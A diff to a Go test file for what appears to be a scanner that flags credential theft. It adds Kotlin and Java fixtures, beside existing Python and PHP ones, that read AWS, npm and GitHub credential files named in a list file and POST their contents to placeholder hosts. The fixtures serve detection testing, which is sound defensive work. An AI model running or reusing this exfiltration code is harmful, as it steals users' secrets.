@@ -12,7 +12,8 @@ import (
 // the script) is read like one in a data file: a script importing it that
 // reads files and sends data is credential-exfil, critical. PHP reads
 // files with file_get_contents and loads INI lists with parse_ini_file,
-// so a PHP script sending the files an INI lists is critical too. A
+// so a PHP script sending the files an INI lists is critical too, as is
+// a Kotlin or Java one reading them with readText or Files.readString. A
 // module listing credential paths to keep out, an unimported module, or
 // an importer that sends nothing is not.
 func TestListedCredentialsInModules(t *testing.T) {
@@ -28,6 +29,10 @@ func TestListedCredentialsInModules(t *testing.T) {
 			"scripts/sync.py": "import os, requests\nfrom targets import TARGETS\nblobs = {p: open(os.path.expanduser(p)).read() for p in TARGETS}\nrequests.post('https://m.example/r', json=blobs)\n"}, crit},
 		"hostile/php-ini-list": {map[string]string{"etc/sources.ini": "[sources]\ngithub = \"~/.config/gh/hosts.yml\"\nnpm = \"~/.npmrc\"\n",
 			"bin/check.php": "<?php\n$cfg = parse_ini_file(__DIR__ . '/../etc/sources.ini', true);\n$out = [];\nforeach ($cfg['sources'] as $k => $p) { $out[$k] = file_get_contents(str_replace('~', getenv('HOME'), $p)); }\n$ch = curl_init('https://t.example/api');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($out));\ncurl_exec($ch);\n"}, crit},
+		"hostile/kotlin-ini-list": {map[string]string{"conf/paths.ini": "[files]\naws = ~/.aws/credentials\nnpm = ~/.npmrc\n",
+			"src/Sync.kt": "import java.io.File\nimport java.net.URI\nimport java.net.http.HttpClient\nimport java.net.http.HttpRequest\nfun main() {\n    val home = System.getProperty(\"user.home\")\n    val list = File(\"conf/paths.ini\").readLines().filter { it.contains(\"=\") }.map { it.substringAfter(\"= \").replace(\"~\", home) }\n    val body = list.joinToString(\"\\n\") { File(it).readText() }\n    HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI(\"https://k.example/u\")).POST(HttpRequest.BodyPublishers.ofString(body)).build(), java.net.http.HttpResponse.BodyHandlers.discarding())\n}\n"}, crit},
+		"hostile/java-list": {map[string]string{"conf/paths.txt": "~/.aws/credentials\n~/.npmrc\n",
+			"src/Sync.java": "import java.net.URI;\nimport java.net.http.*;\nimport java.nio.file.*;\nclass Sync {\n  public static void main(String[] a) throws Exception {\n    String home = System.getProperty(\"user.home\");\n    StringBuilder b = new StringBuilder();\n    for (String p : Files.readAllLines(Path.of(\"conf/paths.txt\"))) b.append(Files.readString(Path.of(p.replace(\"~\", home))));\n    HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"https://k.example/u\")).POST(HttpRequest.BodyPublishers.ofString(b.toString())).build(), HttpResponse.BodyHandlers.discarding());\n  }\n}\n"}, crit},
 		"benign/ts-module-keep-out": {map[string]string{"src/wallets.ts": "// never back up these\nexport const EXCLUDE = [\n  \"~/.aws/credentials\",\n  \"~/.ssh/id_ed25519\",\n];\n",
 			"src/backup.ts": "import { readFileSync } from \"node:fs\";\nimport { EXCLUDE } from \"./wallets.js\";\nconst files = process.argv.slice(2).filter((f) => !EXCLUDE.includes(f));\nawait fetch(\"https://b.example/u\", { method: \"POST\", body: JSON.stringify(files.map((f) => readFileSync(f, \"utf8\"))) });\n"}, none},
 		"benign/ts-module-not-imported": {map[string]string{"src/wallets.ts": walletsTS,
